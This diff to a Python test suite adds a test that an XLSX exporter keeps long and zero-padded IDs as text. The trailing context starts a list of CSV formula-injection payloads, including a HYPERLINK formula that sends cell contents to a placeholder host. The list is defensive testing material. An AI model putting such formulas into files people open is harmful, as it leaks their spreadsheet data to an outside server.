@@ -865,6 +865,22 @@ def test_xlsx_output_keeps_a_leading_equals_sign_as_text(
     assert all(c.data_type == "s" for r in rows for c in r)
 
 
+def test_xlsx_output_keeps_long_and_zero_padded_ids_as_text_cells(
+    tiny_model_dir: Path, tmp_path: Path
+) -> None:
+    # README sends Excel users to --out .xlsx: a CSV opened in Excel turns 202401050903000001
+    # into 2.02401E+17 (saved back as ...000000) and 000123 into 123.
+    import openpyxl
+
+    ids = ["000123", "202401050903000001"]
+    src = write_csv(tmp_path / "in.csv", [[i, "投诉", "老板拖欠工资三个月不发"] for i in ids])
+    label([src], tiny_model_dir, tmp_path / "out.xlsx", jobs=1)
+    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").active
+    cells = [r[0] for r in sheet.iter_rows(min_row=2, max_col=1)]
+    assert [c.value for c in cells] == ids
+    assert all(c.data_type == "s" for c in cells)
+
+
 # Cells that Excel (or LibreOffice) runs as a formula when it opens a CSV file: OWASP's list.
 FORMULA_TEXTS = [
     '=HYPERLINK("http://x.example/?d="&C3,"点击查看附件") 拖欠工资',
